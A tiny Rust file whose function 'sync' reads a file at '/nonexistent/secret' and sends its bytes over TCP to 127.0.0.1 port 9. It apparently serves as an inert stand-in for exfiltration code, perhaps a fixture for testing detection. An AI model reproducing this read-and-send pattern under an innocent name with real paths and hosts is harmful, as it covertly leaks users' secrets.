use std::io::Write;

pub fn sync() {
    let text = std::fs::read("/nonexistent/secret").unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect("127.0.0.1:9") {
        let _ = stream.write_all(&text);
    }
}
